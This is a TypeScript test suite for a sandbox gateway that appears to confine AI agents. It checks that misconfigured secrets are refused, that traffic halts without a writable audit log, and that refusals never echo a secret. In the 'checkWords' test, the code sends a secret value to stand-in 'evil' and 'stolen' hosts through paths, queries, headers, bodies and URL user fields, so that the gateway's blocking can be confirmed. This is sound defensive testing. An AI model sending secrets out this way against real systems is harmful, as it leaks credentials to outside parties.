import { dirname, join } from "node:path";
import { auditPath } from "../../cage/audit_log.ts";
import { loadConfig } from "../../config/layers.ts";
import { UserError } from "../../errors.ts";
import { ensurePrivateDir, removeIfPresent } from "../../files.ts";
import { CONFIG_FILE } from "../../names.ts";
import type { Finding } from "../case.ts";
import { BAD_CERTIFICATES } from "../internet/certificates.ts";
import { tellLeaks } from "../internet/guarded_suite.ts";
import type { GuardedCage } from "../internet/guarded.ts";
import { everyProxy } from "../internet/probes.ts";
import { type SecretCase, type SecretsGiven, SITE } from "./given.ts";
import { ask, BEARER, request } from "./asking.ts";
import { isAnswered, isDenied, listValuesIn, lookFor, openAudit } from "./seen.ts";

const SUITE = "secrets";

/** A user's file that gives a secret away, and what its refusal must name. */
type WrongFile = readonly [what: string, text: string, words: RegExp];

const WRONG_FILES: readonly WrongFile[] = [
  ["a secret without a host", formatSecret("MY_TOKEN"), /"to"/],
  [
    "a secret for a host whose TLS is never opened",
    formatSecret("MY_TOKEN", "api.test") + '[network]\npassthrough = ["api.test"]\n',
    /passthrough/,
  ],
  [
    "a secret below names whose TLS is never opened",
    formatSecret("MY_TOKEN", "api.test") + '[network]\npassthrough = ["*.test"]\n',
    /passthrough/,
  ],
  [
    "a key that signs and is never sent",
    formatSecret("AWS_SECRET_ACCESS_KEY", "s3.amazonaws.com"),
    /signed with this key/,
  ],
  ["a secret for every host", formatSecret("MY_TOKEN", "*"), /to/],
];

function formatSecret(name: string, to?: string): string {
  return `[secrets.${name}]\nfrom = "env"\n${to === undefined ? "" : `to = ["${to}"]\n`}`;
}

async function checkConfig({ guarded, host }: SecretsGiven): Promise<Finding> {
  // Beside what the session keeps, in the directory of this run.
  const home = join(dirname(guarded.cage.dir), "config");
  const stateDir = join(home, ".sandcage");
  await ensurePrivateDir(stateDir);
  const findRefusal = async (text: string): Promise<string | undefined> => {
    await Deno.writeTextFile(join(stateDir, CONFIG_FILE.user), `version = 1\n${text}`);
    try {
      await loadConfig(home, { host: { ...host, home, stateDir, cwd: home } });
      return undefined;
    } catch (error) {
      if (error instanceof UserError) return `${error.message}\n${error.hint ?? ""}`;
      throw error;
    }
  };
  const evidence: string[] = [];
  for (const [what, text, words] of WRONG_FILES) {
    const refusal = await findRefusal(text);
    if (refusal === undefined) evidence.push(`${what} is taken`);
    else if (!words.test(refusal)) evidence.push(`${what} is refused, but for something else`);
  }
  return {
    held: evidence.length === 0,
    control: await findRefusal(formatSecret("MY_TOKEN", "api.test")) === undefined,
    seen: `${WRONG_FILES.length} files refused, the same with a host is taken`,
    evidence,
  };
}

const ALLOWED = `http://${SITE.closed}/`;

async function waitOpen(guarded: GuardedCage): Promise<boolean> {
  return await lookFor(async () => {
    const outcomes = await guarded.probe([request("open", ["-m", "3", ALLOWED])]);
    return isAnswered(outcomes.get("open").data) || undefined;
  }) ?? false;
}

async function checkAudit({ guarded }: SecretsGiven): Promise<Finding> {
  const { internet } = guarded;
  const log = await openAudit(guarded);
  const wasOpen = await waitOpen(guarded);
  // What was let through is on record: nothing more is on its way there.
  await log.wait(({ decision, kind }) => decision === "allow" && kind === "request", 1);
  const path = auditPath(guarded.cage.dir);
  const kept = `${path}.kept`;
  await Deno.rename(path, kept);
  let wasRefused: boolean | undefined;
  let refused: string[];
  let leaks: string[];
  try {
    // Nobody can append to a directory, whoever they are.
    await Deno.mkdir(path);
    wasRefused = await lookFor(async () => {
      const outcomes = await guarded.probe([request("refusal", [ALLOWED])]);
      return isDenied(outcomes.get("refusal").data, "audit") || undefined;
    });
    await internet.clear();
    const outcomes = await guarded.probe([
      request("plain HTTP", [ALLOWED]),
      request("a tunnel", [`https://${SITE.closed}/`]),
      request("a tunnel that is opened", [`https://${SITE.opened}/`]),
      request("no proxy", [`https://${SITE.closed}/`], { env: everyProxy(null) }),
      ask("a secret", `${BEARER} https://${SITE.own}/`),
    ]);
    refused = outcomes.all.filter(({ data }) => isAnswered(data))
      .map(({ id }) => `${id} was sent on`);
    leaks = await tellLeaks(internet);
  } finally {
    await removeIfPresent(path);
    await Deno.rename(kept, path);
  }
  const isOpen = await waitOpen(guarded);
  // That something was refused for want of a log is written as soon as there is one.
  const told = wasRefused === true ? await log.wait(({ reason }) => reason === "audit", 1) : [];
  const evidence = [
    ...(wasRefused === true ? [] : ["requests went on without a log"]),
    ...refused,
    ...leaks,
  ];
  return {
    held: evidence.length === 0,
    control: wasOpen && isOpen && told.length > 0,
    seen: `5 ways, ${refused.length} sent on; open again with the log, and the refusals are in it`,
    evidence,
  };
}

async function checkWords({ guarded, secrets }: SecretsGiven): Promise<Finding> {
  const { value } = secrets.key;
  const { echo, decoy } = guarded.internet.addresses;
  const log = await openAudit(guarded);
  guarded.internet.script(SITE.stolen, { answers: [[decoy]] });
  const refused = [
    request("an unlisted host's path", [`http://${SITE.evil}/${value}/x`]),
    request("an unlisted host's query", [`http://${SITE.evil}/?x=${value}`]),
    request("a path", [`https://${SITE.opened}/${value}/x`]),
    request("a query", [`https://${SITE.opened}/?x=${value}`]),
    request("a header", ["-H", `x: ${value}`, `https://${SITE.opened}/`]),
    request("a header's name", ["-H", `${value}: x`, `https://${SITE.opened}/`]),
    request("a body", ["-d", value, `https://${SITE.opened}/`]),
    request("a user", [`http://${value}@${SITE.closed}/`]),
  ];
  const outcomes = await guarded.probe([
    ...refused,
    // The value was put in, or would have been, when something went wrong behind the gateway.
    ask("a wrong certificate", `${BEARER} "https://${BAD_CERTIFICATES.expired}/?x=$PROBE_KEY"`),
    ask("a stolen address", `${BEARER} "https://${SITE.stolen}/?x=$PROBE_KEY"`),
    ask("an answer that breaks off", `-i ${BEARER} "https://${SITE.own}/reset?x=$PROBE_KEY"`),
  ]);
  guarded.internet.script(SITE.stolen, { answers: [[echo]] });
  const lines = await log.wait(({ decision }) => decision === "deny", refused.length);
  const evidence = [
    ...outcomes.all.flatMap(({ id, data, stderr = "" }) =>
      listValuesIn(data + stderr, secrets).map((what) => `${what}, in the answer to ${id}`)
    ),
    ...lines.flatMap((line) =>
      listValuesIn(JSON.stringify(line), secrets)
        .map((what) => `${what}, in a line of the log (${line.reason})`)
    ),
  ];
  const told = refused.filter(({ id }) => isDenied(outcomes.get(id).data));
  return {
    held: evidence.length === 0,
    control: told.length === refused.length && lines.length >= refused.length,
    seen: `${outcomes.all.length} answers and their lines in the log, ${evidence.length} values`,
    evidence,
  };
}

/** What is refused, and how it is told. */
export const REFUSED_CASES: readonly SecretCase[] = [
  {
    id: "S07",
    suite: SUITE,
    title: "a secret that could not be kept is refused before anything starts",
    threat: "a configuration that looks right hands the value to the agent, or to anybody",
    expectation:
      "no host, every host, TLS that stays shut and keys that sign are refused by name; the corrected file is taken",
    source: "sandcage",
    brokenBy: "secrets are not looked at in the configuration",
    quick: false,
    check: checkConfig,
  },
  {
    id: "S08",
    suite: SUITE,
    title: "what cannot be written down does not happen",
    threat: "a full disk, or one that was filled, and nobody will ever know what left",
    expectation: "no packet while the log cannot be written; traffic returns with it",
    source: "sandcage",
    brokenBy: "a log that cannot be written is no reason",
    quick: false,
    check: checkAudit,
  },
  {
    id: "S13",
    suite: SUITE,
    title: "neither a refusal nor the log says the value it is about",
    threat: "an error page or a log that is shared holds the key it was written to protect",
    expectation: "eleven errors and their lines without it; each is the gateway's own",
    source: "sandcage",
    brokenBy: "a refusal says what was found",
    quick: false,
    check: checkWords,
  },
];
